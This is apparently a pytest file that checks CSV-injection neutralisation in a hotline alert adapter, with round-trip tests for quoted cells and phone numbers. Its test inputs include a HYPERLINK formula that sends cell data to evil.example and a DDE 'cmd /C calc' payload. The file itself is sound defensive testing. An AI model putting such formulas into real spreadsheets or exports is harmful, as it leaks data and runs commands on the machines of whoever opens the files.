"""CSV injection: a peer's text that a spreadsheet would run as a formula reaches hotline CSV
files (drop folders, inbox exports) neutralised the OWASP way, and comes back unchanged."""

from __future__ import annotations

import pytest

from adapters.hotline_111_csv import ADAPTER
from adapters.hotline_111_csv import columns as col
from adapters.hotline_111_csv.table import read_rows, write_row
from gateway.wire import canonical
from tests import fuzz_seeds

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
# Surrounding white space is not part of a value (the adapter strips it, as the reader does),
# so in a message a tab or CR prefix reaches the cell only as the formula behind it.
IN_MESSAGES = ["=", "+", "-", "@", "\t=", "\r\n+"]


def _alert() -> canonical.Message:
    return ADAPTER.decode(fuzz_seeds.samples("hotline-111-csv")[0]).messages[0].message


def _cells(data: bytes) -> dict[str, str]:
    """The data row's cells as written (quotes still on), by header."""
    text = data.decode("utf-8-sig")
    header, row = text.split("\r\n")[0], text.split("\r\n", 1)[1]
    written: list[str] = []
    # Split on separators outside quotes, keeping each cell exactly as written.
    cell, quoted = "", False
    for char in row.removesuffix("\r\n"):
        if char == '"':
            quoted = not quoted
        if char == ";" and not quoted:
            written.append(cell)
            cell = ""
        else:
            cell += char
    written.append(cell)
    return dict(zip(header.split(";"), written, strict=True))


@pytest.mark.parametrize("prefix", DANGEROUS)
def test_every_dangerous_prefix_is_quoted_with_a_leading_quote_and_read_back(prefix: str) -> None:
    value = f"{prefix}SUM(1;2)"
    [row] = read_rows(write_row([value, "plain"]))
    assert write_row([value]).startswith("\"'")
    assert [f.text for f in row.fields] == [value.replace("\r", "\n"), "plain"]


@pytest.mark.parametrize("prefix", IN_MESSAGES)
def test_a_formula_from_a_peer_is_written_quoted_with_a_leading_quote(prefix: str) -> None:
    message = _alert()
    message.hotline_alert.summary = f'{prefix}HYPERLINK("http://evil.example/?"&A1;"click")'
    message.hotline_alert.place = f"{prefix}1+2"
    message.hotline_alert.caller.name = f"{prefix}cmd|' /C calc'!A0"
    encoded = ADAPTER.encode(message)
    cells = _cells(encoded.data)
    for header in (col.SUMMARY, col.PLACE, col.CALLER_NAME):
        assert cells[header].startswith("\"'"), (header, cells[header])
    again = ADAPTER.decode(encoded.data).messages[0].message
    assert again.hotline_alert.summary == message.hotline_alert.summary.strip()
    assert again.hotline_alert.place == message.hotline_alert.place.strip()
    assert again.hotline_alert.caller.name == message.hotline_alert.caller.name.strip()


def test_international_phone_numbers_are_neutralised_and_kept() -> None:
    message = _alert()
    message.hotline_alert.caller.phone = "+84 912 345 678"
    encoded = ADAPTER.encode(message)
    assert _cells(encoded.data)[col.CALLER_PHONE] == '"\'+84 912 345 678"'
    assert encoded.warnings == ()
    assert ADAPTER.decode(encoded.data).messages[0].message == message


@pytest.mark.parametrize(
    "value",
    ["'=already quoted", "''+twice", "'plain", "'", "a=b", "x-1", "'\tq", "e@mail"],
)
def test_values_that_look_neutralised_survive_a_round_trip(value: str) -> None:
    message = _alert()
    message.hotline_alert.summary = value
    encoded = ADAPTER.encode(message)
    assert encoded.warnings == ()
    assert ADAPTER.decode(encoded.data).messages[0].message.hotline_alert.summary == value


def test_a_neutralised_cell_in_an_export_is_read_without_its_quote() -> None:
    header = ";".join(col.HEADERS)
    row = "111-1;01/12/2026 08:15;Zalo;Mất tích;Cao;\"'=1+2\";;'-x;;'+84 90;;;"
    [decoded] = ADAPTER.decode(f"{header}\r\n{row}\r\n".encode()).messages
    alert = decoded.message.hotline_alert
    assert (alert.place, alert.summary, alert.caller.phone) == ("=1+2", "-x", "+84 90")
    assert [f.text for f in read_rows(row)[0].fields][5] == "=1+2"
